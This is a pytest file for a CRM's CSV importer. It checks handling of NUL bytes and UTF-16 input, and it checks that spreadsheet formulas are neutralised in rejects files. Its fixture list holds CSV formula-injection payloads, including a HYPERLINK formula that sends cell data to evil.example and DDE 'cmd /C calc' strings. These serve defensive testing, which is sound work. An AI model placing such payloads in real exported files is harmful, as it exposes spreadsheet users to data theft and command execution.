"""Issue 14, CSV: a NUL byte is a per-line reject, not a crash; no CSV Chronos writes can run a formula
when a spreadsheet opens it."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from sqlalchemy import select

from crm.db import UnitOfWork
from crm.importing import Entity, ImportFileError, ImportRejected
from crm.importing.formulas import neutralised, unquoted
from crm.models import Interaction
from tests.crm.test_import import count, run_import, seed, write_file

HEADER = "external_id,rep_code,channel,occurred_at,body\n"
REPO = Path(__file__).resolve().parents[2]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"جزئیات")',
    "+98912-CMD",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


async def test_a_nul_byte_in_a_cell_rejects_that_line_and_names_the_column(
    uow: UnitOfWork, tmp_path: Path
) -> None:
    path = write_file(
        tmp_path,
        HEADER
        + "OK-1,REP-1001,call,1403/05/12 10:00,سالم\nNUL-1,REP-1001,call,1403/05/12 11:00,پیام\x00خراب\n",
    )
    async with uow:
        await seed(uow)
        with pytest.raises(ImportRejected) as caught:
            await run_import(uow, Entity.INTERACTIONS, path)

        [error] = caught.value.report.errors
        assert error.line == 3
        assert error.error.startswith("body: contains a NUL byte (\\x00)")
        assert await count(uow, Interaction) == 0


async def test_with_skip_invalid_the_nul_line_is_kept_whole_in_the_rejects_file(
    uow: UnitOfWork, tmp_path: Path
) -> None:
    path = write_file(
        tmp_path,
        HEADER
        + "NUL-1,REP-1001,call,1403/05/12 11:00,پیام\x00خراب\nOK-1,REP-1001,call,1403/05/12 10:00,سالم\n",
    )
    async with uow:
        await seed(uow)
        report = await run_import(uow, Entity.INTERACTIONS, path, skip_invalid=True)

        assert (report.inserted, report.invalid) == (1, 1)
        assert set(await uow.session.scalars(select(Interaction.idempotency_key))) == {"OK-1"}
        [_, rejected] = _read(tmp_path / "data.rejects.csv")
        assert rejected[0] == "2"
        assert rejected[2:] == ["NUL-1", "REP-1001", "call", "1403/05/12 11:00", "پیام\x00خراب"]


async def test_utf16_without_a_byte_order_mark_is_named(uow: UnitOfWork, tmp_path: Path) -> None:
    path = write_file(tmp_path, (HEADER + "X-1,REP-1001,call,1403/05/12 10:00,سلام\n").encode("utf-16-le"))
    async with uow:
        with pytest.raises(ImportFileError, match="UTF-16 text without a byte-order mark"):
            await run_import(uow, Entity.INTERACTIONS, path)


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_cell_is_quoted_and_read_back_unchanged(formula: str) -> None:
    assert neutralised(formula) == "'" + formula
    assert unquoted(neutralised(formula)) == formula
    assert neutralised("نماینده = 5") == "نماینده = 5"
    assert neutralised(12) == "12"


async def test_formulas_in_rejected_rows_are_quoted_in_the_rejects_file(
    uow: UnitOfWork, tmp_path: Path
) -> None:
    rows = "".join(
        f'F-{index},REP-9999,call,1403/05/12 10:00,"{formula.replace(chr(34), chr(34) * 2)}"\n'
        for index, formula in enumerate(FORMULAS)
    )
    path = write_file(tmp_path, HEADER + "=EXT(1),REP-9999,call,1403/05/12 10:00,x\n" + rows)
    async with uow:
        await seed(uow)
        await run_import(uow, Entity.INTERACTIONS, path, skip_invalid=True)

    header, *rejected = _read(tmp_path / "data.rejects.csv")
    assert header == ["line", "error", "external_id", "rep_code", "channel", "occurred_at", "body"]
    assert rejected[0][2] == "'=EXT(1)"
    assert [row[6] for row in rejected[1:]] == ["'" + formula for formula in FORMULAS]
    for row in rejected:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


async def test_a_fixed_rejects_file_imports_with_the_original_text(uow: UnitOfWork, tmp_path: Path) -> None:
    path = write_file(tmp_path, HEADER + 'F-1,REP-9999,call,1403/05/12 10:00,"=1+1 گفت سرعت کم است"\n')
    async with uow:
        await seed(uow)
        await run_import(uow, Entity.INTERACTIONS, path, skip_invalid=True)
        fixed = tmp_path / "fixed.csv"
        fixed.write_text(
            (tmp_path / "data.rejects.csv").read_text(encoding="utf-8-sig").replace("REP-9999", "REP-1001"),
            encoding="utf-8-sig",
        )

        report = await run_import(uow, Entity.INTERACTIONS, fixed)

        assert report.inserted == 1
        body = await uow.session.scalar(select(Interaction.body).where(Interaction.idempotency_key == "F-1"))
        assert body == "=1+1 گفت سرعت کم است"


def test_every_csv_the_product_writes_goes_through_the_one_helper() -> None:
    writers = re.compile(r"csv\.(?:writer|DictWriter)\(|\bDictWriter\(")
    offenders = [
        str(path.relative_to(REPO))
        for package in ("ai", "bot", "chronos", "crm", "jobs")
        for path in sorted((REPO / package).rglob("*.py"))
        if writers.search(path.read_text(encoding="utf-8")) and path.name != "formulas.py"
    ]
    assert offenders == []
